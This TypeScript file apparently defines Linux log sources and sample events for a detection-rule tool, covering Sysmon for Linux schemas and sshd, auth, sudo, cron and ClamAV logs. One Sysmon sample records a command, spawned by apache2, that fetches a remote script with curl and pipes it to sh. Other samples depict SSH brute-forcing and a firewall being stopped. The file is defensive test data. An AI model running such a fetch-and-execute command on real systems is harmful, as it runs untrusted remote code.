import type { Source, Telemetry } from './types.js'

const about = 'RuleName UtcTime:date'
const actor = `${about} ProcessGuid:guid ProcessId:integer Image:path User`

const acting = {
  UtcTime: '2025-03-11 09:24:17.318',
  ProcessGuid: '{8A1F0C3E-7E41-67D0-55B1-7C0000000000}',
  ProcessId: '4127',
  Image: '/usr/bin/bash',
  User: 'deploy',
}

/** Logs of lines of text: a rule searches the message. */
function lines(service: string, label: string, channel: string, title: string, message: string): Source {
  return {
    key: `linux-${service}`,
    product: 'linux',
    provider: service,
    label,
    channel,
    log: title,
    logVerified: false,
    fields: 'message hostname program pid:integer',
    samples: { log: { message, hostname: 'web-03', program: service } },
  }
}

const texts = [
  lines(
    'sshd',
    'sshd',
    'auth.log',
    'OpenSSH server log',
    'error: maximum authentication attempts exceeded for root from 203.0.113.41 port 50822 ssh2 [preauth]',
  ),
  lines('syslog', 'syslog', 'syslog', 'System log', 'systemd[1]: Stopping firewalld - dynamic firewall daemon...'),
  lines(
    'auth',
    'auth',
    'auth.log',
    'Authentication log',
    'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.41 user=root',
  ),
  lines('clamav', 'ClamAV', 'clamav.log', 'ClamAV log', '/srv/upload/eicar.com: Eicar-Test-Signature FOUND'),
  lines('cron', 'cron', 'cron log', 'Cron log', '(deploy) CMD (/opt/backup/run.sh)'),
  lines(
    'guacamole',
    'Guacamole',
    'guacamole log',
    'Apache Guacamole log',
    'User "@4c1f" joined connection "$8d02" (1 users now present)',
  ),
  lines(
    'vsftpd',
    'vsftpd',
    'vsftpd.log',
    'vsftpd log',
    'CONNECT: Client "203.0.113.41", "Connection refused: too many sessions for this address."',
  ),
  lines(
    'sudo',
    'sudo',
    'auth.log',
    'sudo log',
    'deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/apt update',
  ),
]

export const linux: Telemetry = {
  sources: [
    {
      key: 'linux-sysmon',
      product: 'linux',
      provider: 'Linux-Sysmon',
      label: 'Sysmon for Linux',
      channel: 'Linux-Sysmon/Operational',
      log: 'Sysmon for Linux log',
      fields: 'UtcTime:date',
      events: `
        1  | Process creation | ${actor} FileVersion Description Product Company OriginalFileName CommandLine CurrentDirectory:path LogonGuid:guid LogonId:integer TerminalSessionId:integer IntegrityLevel Hashes:hash ParentProcessGuid:guid ParentProcessId:integer ParentImage:path ParentCommandLine ParentUser
        3  | Network connection | ${actor} Protocol Initiated:boolean SourceIsIpv6:boolean SourceIp:ip SourceHostname SourcePort:integer SourcePortName DestinationIsIpv6:boolean DestinationIp:ip DestinationHostname DestinationPort:integer DestinationPortName
        4  | Sysmon service state changed | UtcTime:date State Version SchemaVersion
        5  | Process terminated | ${actor}
        9  | RawAccessRead | ${actor} Device:path
        11 | FileCreate | ${actor} TargetFilename:path CreationUtcTime:date
        16 | Sysmon config state changed | UtcTime:date Configuration:path ConfigurationFileHash:hash
        23 | FileDelete (A file delete was detected) | ${actor} TargetFilename:path Hashes:hash IsExecutable:boolean Archived:boolean
      `,
      samples: {
        1: {
          ...acting,
          CommandLine: 'bash -c "curl -s http://files.example.net/i.sh | sh"',
          CurrentDirectory: '/var/www/html',
          LogonId: '33',
          TerminalSessionId: '4',
          IntegrityLevel: 'no level',
          Hashes: '-',
          ParentProcessGuid: '{8A1F0C3E-7D02-67D0-91C4-5F0000000000}',
          ParentProcessId: '1290',
          ParentImage: '/usr/sbin/apache2',
          ParentCommandLine: '/usr/sbin/apache2 -k start',
          ParentUser: 'www-data',
        },
        3: {
          ...acting,
          Image: '/usr/bin/curl',
          Protocol: 'tcp',
          Initiated: 'true',
          SourceIsIpv6: 'false',
          SourceIp: '10.30.1.12',
          SourcePort: '48210',
          DestinationIsIpv6: 'false',
          DestinationIp: '198.51.100.24',
          DestinationHostname: '-',
          DestinationPort: '443',
        },
        11: { ...acting, TargetFilename: '/etc/cron.d/sync', CreationUtcTime: '2025-03-11 09:24:17.301' },
      },
    },
    {
      key: 'linux',
      anyLog: true,
      product: 'linux',
      provider: 'Linux',
      label: 'Linux',
      channel: 'any log',
      log: 'Any Linux log',
      logVerified: false,
      fields: 'message hostname program pid:integer',
      samples: {
        log: { message: 'kernel: nf_conntrack: table full, dropping packet', hostname: 'web-03', program: 'kernel' },
      },
    },
    ...texts,
  ],
  logSources: [
    { product: 'linux', primary: ['linux'] },
    { product: 'linux', service: 'sysmon', primary: ['linux-sysmon'] },
    { product: 'linux', category: 'process_creation', primary: ['linux-sysmon/1'] },
    { product: 'linux', category: 'network_connection', primary: ['linux-sysmon/3'] },
    { product: 'linux', category: 'file_event', primary: ['linux-sysmon/11'] },
    { product: 'linux', category: 'file_delete', primary: ['linux-sysmon/23'] },
    { product: 'linux', category: 'process_termination', primary: ['linux-sysmon/5'] },
    ...texts.map(({ key, provider }) => ({ product: 'linux', service: provider, primary: [key] })),
  ],
}
